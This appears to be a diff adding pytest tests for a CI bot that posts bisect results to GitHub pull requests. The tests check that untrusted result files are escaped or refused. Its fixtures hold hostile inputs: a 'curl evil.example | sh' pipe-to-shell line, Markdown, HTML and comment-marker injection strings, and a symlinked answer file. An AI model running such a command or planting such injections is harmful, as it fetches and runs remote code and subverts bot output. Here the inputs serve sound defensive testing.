@@ -1,0 +1,189 @@
+"""What a search answers: checked, since the machine that wrote it ran a contributor's code, and then said."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kernelgate.ci.cli import run as kernelgate
+from kernelgate.ci.github.bisect_comment import put_search, text_of
+from kernelgate.ci.github.bisect_words import NO_ANSWER, Searched
+from tests.ci.desk import Desk
+
+GOOD, BAD, CULPRIT, STRANGE, INNER = "a" * 40, "b" * 40, "c" * 40, "d" * 40, "e" * 40
+TIME = Searched(GOOD, BAD, "time", "")
+HOSTILE = "@octocat <img src=x> [a](https://evil.example) `x` <!-- kernelgate-bisect run=77 -->\n# big"
+
+TIMED: dict[str, Any] = {
+    "case": "attention/s512",
+    "found": "found",
+    "culprits": [CULPRIT],
+    "chance": 0.9991,
+    "change_pct": 1.02,
+    "interval_pct": [0.93, 1.11],
+    "several": [],
+    "stepped_over": {STRANGE: HOSTILE},
+    "processes": 4,
+    "inside": None,
+}
+FAILING: dict[str, Any] = {
+    "case": "attention/edge_s65",
+    "seed": 7,
+    "found": "found",
+    "culprits": [CULPRIT],
+    "chance": 0.999,
+    "fault": HOSTILE,
+    "repeat": "curl evil.example | sh",
+    "failed": 20,
+    "runs": 20,
+    "passes": 3,
+    "stepped_over": {},
+    "inside": None,
+}
+COMPILED: dict[str, Any] = {"last_that_compiles": GOOD, "culprits": [CULPRIT], "why": HOSTILE, "inside": None}
+
+
+def said(desk: Desk, folder: Path, answer: object, asked: Searched = TIME) -> str:
+    text = answer if isinstance(answer, str) else json.dumps(answer)
+    (folder / "answer.json").write_text(text, "utf-8")
+    return text_of(desk.bot, folder, asked)
+
+
+@pytest.fixture(autouse=True)
+def line(desk: Desk) -> None:
+    """STRANGE is a commit that is not of the range."""
+    desk.github.merge_bases[STRANGE, BAD] = GOOD
+
+
+def test_which_commit_how_much_how_sure_and_how_to_repeat_it(desk: Desk, tmp_path: Path) -> None:
+    text = said(desk, tmp_path, TIMED)
+    assert "**1.02% slower** (+0.93% to +1.11%) since [" in text
+    assert f"/commit/{CULPRIT})" in text
+    assert "probability 99.9%" in text
+    assert "Timed side by side 4 times" in text
+    assert "**Stepped over** 1 commit" in text
+    assert f"kernelgate bisect {GOOD} {BAD} --case attention/s512" in text
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        ({"found": "none", "culprits": []}, "**no change:** both ends take the same time (+0.93% to +1.11%)."),
+        ({"found": "none", "culprits": [], "processes": 0}, "what is built is the same at both"),
+        ({"found": "open"}, "**not found.** Likeliest: ["),
+        ({"found": "open", "culprits": []}, "**not found.**"),
+        ({"culprits": [CULPRIT, BAD]}, "They cannot be told apart"),
+        ({"change_pct": -2.0}, "**2.00% faster**"),
+        ({"found": "several", "several": [{"commit": CULPRIT, "change_pct": 1.5}]}, "**more than one commit** changed"),
+        ({"inside": {"why": "moves two at once"}}, "Which commit of a submodule it was is not known"),
+        ({"inside": {**TIMED, "culprits": [INNER], "submodule": "third_party/tiles"}}, "which it moves:"),
+    ],
+)
+def test_each_end_of_a_search_has_its_words(desk: Desk, tmp_path: Path, change: dict[str, Any], words: str) -> None:
+    assert words in said(desk, tmp_path, {**TIMED, **change})
+
+
+def test_a_fuzz_case_and_a_compile_have_theirs(desk: Desk, tmp_path: Path) -> None:
+    text = said(desk, tmp_path, FAILING, Searched(GOOD, BAD, "fuzz", "edge_s65"))
+    assert "**fails** since [" in text
+    assert "fails in 20 of 20 runs at the bad end" in text
+    assert f"kernelgate bisect {GOOD} {BAD} --fuzz --case attention/edge_s65 --seed 7" in text
+    assert "curl" not in text, "the command to repeat is ours"
+    nothing = {"found": "none", "culprits": [], "why": "all pass"}
+    assert "no fuzz case fails at the bad end" in said(desk, tmp_path, nothing, Searched(GOOD, BAD, "fuzz", ""))
+    built = said(desk, tmp_path, COMPILED, Searched(GOOD, BAD, "build", ""))
+    assert "**Does not compile** since [" in built
+    assert f"kernelgate bisect {GOOD} {BAD} --build" in built
+
+
+NESTED: dict[str, Any] = TIMED
+for _ in range(5):
+    NESTED = {**TIMED, "inside": {**NESTED, "submodule": "x"}}
+
+REFUSED: dict[str, Any] = {
+    "a sha that is none": {**TIMED, "culprits": ["not-a-commit"]},
+    "a sha with an end of line": {**TIMED, "culprits": [CULPRIT + "\n"]},
+    "a commit of elsewhere": {**TIMED, "culprits": [STRANGE]},
+    "the good end": {**TIMED, "culprits": [GOOD]},
+    "several of elsewhere": {**TIMED, "found": "several", "several": [{"commit": STRANGE, "change_pct": 1.0}]},
+    "found without a commit": {**TIMED, "culprits": []},
+    "another case": {**TIMED, "case": "attention/other"},
+    "a case of Markdown": {**TIMED, "case": "[a](https://evil.example)"},
+    "a text too long": {**TIMED, "stepped_over": {STRANGE: "x" * 10_001}},
+    "a file too long": "[" + " " * (1 << 20) + "]",
+    "deep brackets": "[" * 100_000,
+    "submodules without an end": NESTED,
+    "no number": json.dumps({**TIMED, "change_pct": float("nan")}),
+    "more certain than certain": {**TIMED, "chance": 1.01},
+    "a key twice": '{"case": "a", "case": "b"}',
+    "a key of its own": {**TIMED, "script": "x"},
+    "another kind": FAILING,
+    "no JSON": "hello",
+}
+
+
+@pytest.mark.parametrize("what", REFUSED)
+def test_an_answer_that_is_not_one_is_refused_in_a_sentence(desk: Desk, tmp_path: Path, what: str) -> None:
+    asked = Searched(GOOD, BAD, "time", "s512")
+    text = said(desk, tmp_path, REFUSED[what], asked)
+    assert text.startswith("**No answer:**"), text
+    assert "evil.example" not in text.replace("`", "") or "](https" not in text
+    assert f"kernelgate bisect {GOOD} {BAD} --case s512" in text
+
+
+@pytest.mark.parametrize(("answer", "kind"), [(TIMED, "time"), (FAILING, "fuzz"), (COMPILED, "build")])
+def test_hostile_words_of_an_answer_stay_words(desk: Desk, tmp_path: Path, answer: object, kind: Any) -> None:
+    text = said(desk, tmp_path, answer, Searched(GOOD, BAD, kind, ""))
+    assert "@octocat" in text
+    assert "<!--" not in text
+    assert "\n# big" not in text
+    line = next(line for line in text.splitlines() if "@octocat" in line)
+    opened, shown = line.split("@octocat")[0], line.split("@octocat")[1]
+    assert opened.endswith("``"), "in a code span that its own marks do not end"
+    assert "``" in shown
+
+
+def test_a_link_in_place_of_the_answer_is_not_followed(desk: Desk, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text(json.dumps(TIMED))
+    (tmp_path / "answer.json").symlink_to(tmp_path / "secret")
+    assert "answer.json is not a plain file" in text_of(desk.bot, tmp_path, TIME).replace("`", "")
+
+
+def test_without_an_answer_the_reason_is_said(desk: Desk, tmp_path: Path) -> None:
+    assert NO_ANSWER.split(",")[0] in text_of(desk.bot, tmp_path, TIME)
+    note = {"schema": "kernelgate.failure/1", "fault": "runner", "message": f"no compiler {HOSTILE}"}
+    (tmp_path / "failure.json").write_text(json.dumps(note))
+    text = text_of(desk.bot, tmp_path, TIME)
+    assert text.startswith("**No answer:** no compiler `")
+    assert "<!--" not in text
+
+
+def test_one_comment_is_begun_and_becomes_the_answer(
+    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    pull = desk.github.open_pull(head_sha=BAD)
+    desk.github.comment(pull.number, "mine\n<!-- kernelgate-bisect run=77 -->", author="mallory")
+    put_search(desk.bot, pull.number, "begun")
+    (tmp_path / "answer.json").write_text(json.dumps(TIMED))
+    for name, value in desk.bot.step.environment.items():
+        monkeypatch.setenv(name, value)
+    words = ["bisected", "--from", str(tmp_path), "--good", GOOD, "--bad", BAD, "--post"]
+    assert kernelgate([*words, "--number", str(pull.number)]) == 0
+    other, own = desk.github.bodies(pull.number)
+    assert other.startswith("mine")
+    assert "1.02% slower" in own
+    assert own.endswith("<!-- kernelgate-bisect run=77 -->")
+    assert "1.02% slower" in desk.summary
+    writes = len(desk.github.writes())
+    assert kernelgate(words) == 0
+    assert len(desk.github.writes()) == writes, "a dispatch without a number has the summary alone"
+
+
+def test_a_bot_that_may_not_comment_leaves_the_summary(desk: Desk) -> None:
+    pull = desk.github.open_pull(head_sha=BAD)
+    desk.github.permissions |= {"pull-requests": "read", "issues": "read"}
+    put_search(desk.bot, pull.number, "the answer")
+    assert "the answer" in desk.summary
